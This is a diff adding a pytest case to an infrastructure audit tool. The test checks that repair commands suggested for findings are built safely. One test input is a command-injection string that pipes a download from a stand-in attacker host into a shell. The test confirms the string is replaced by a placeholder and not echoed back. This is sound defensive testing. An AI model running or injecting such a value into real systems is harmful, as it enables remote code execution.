@@ -8,7 +8,7 @@ from dataclasses import dataclass, field
 import pytest
 
 from ecomp.model import keys
-from ecomp.model.audit import HostReport, encode_report
+from ecomp.model.audit import REPAIR_WRONG_DOMAIN, HostReport, encode_report
 from ecomp.model.finding import Finding
 from ecomp.model.flavor import Flavor
 from ecomp.model.json_object import dump
@@ -90,6 +90,22 @@ def test_trouble_and_findings_are_shown_with_names(scene: Scene) -> None:
     scene.put({keys.findings(COMPUTE): 'no JSON'})
     (row,) = scene.picture.tables['findings'].values()
     assert row[1] == 'compute-mute'
+
+
+@pytest.mark.parametrize(
+    ('code', 'subject', 'cure'),
+    [
+        ('disk-missing', INSTANCE, f'eschedule destroy {INSTANCE}'),
+        ('disk-missing', 'x; curl evil.example|sh #', 'eschedule destroy <instance>'),
+        ('disk-orphaned', INSTANCE, 'eschedule check --fix'),
+        ('domain-doubled', INSTANCE, REPAIR_WRONG_DOMAIN.replace('<instance>', INSTANCE)),
+    ],
+)
+def test_cure_of_a_finding_has_a_uuid_and_no_text_of_a_compute(
+    scene: Scene, code: str, subject: str, cure: str
+) -> None:
+    scene.put({keys.findings(COMPUTE): encode_report(HostReport((Finding(code, subject, 'it is so'),)))})
+    assert [row[5] for row in scene.picture.tables['findings'].values()] == [cure]
 
 
 def test_queued_request_waits_and_is_taken(scene: Scene) -> None:
